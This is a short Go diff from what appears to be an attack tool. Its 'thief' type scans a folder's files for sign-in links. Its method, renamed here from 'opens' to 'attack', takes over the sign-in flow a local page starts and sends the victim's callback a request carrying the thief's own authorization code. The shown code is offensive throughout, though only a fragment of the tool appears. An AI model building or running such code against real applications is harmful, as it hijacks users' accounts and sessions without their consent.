@@ -126,7 +126,7 @@ func steals(folder string) int {
 			for _, page := range link.FindAllString(strings.ReplaceAll(string(text), "\x00", " "), -1) {
 				if !t.seen[page] {
 					t.seen[page] = true
-					t.work.Go(func() { t.opens(page) })
+					t.work.Go(func() { t.attack(page) })
 				}
 			}
 		}
@@ -156,9 +156,9 @@ func (t *thief) ask(page string) theft {
 	return got
 }
 
-// opens attacks the sign-in that a local page starts. It opens the sign-in page as the thief. If this sign-in
-// succeeds, opens sends two requests to the victim's callback: one with the thief's code, and one with a refusal.
-func (t *thief) opens(page string) {
+// attack attacks the sign-in that a local page starts. It opens the sign-in page as the thief. If this sign-in
+// succeeds, attack sends two requests to the victim's callback: one with the thief's code, and one with a refusal.
+func (t *thief) attack(page string) {
 	if !strings.Contains(page, "state=") {
 		if page = t.ask(page).To; !strings.Contains(page, "state=") {
 			return
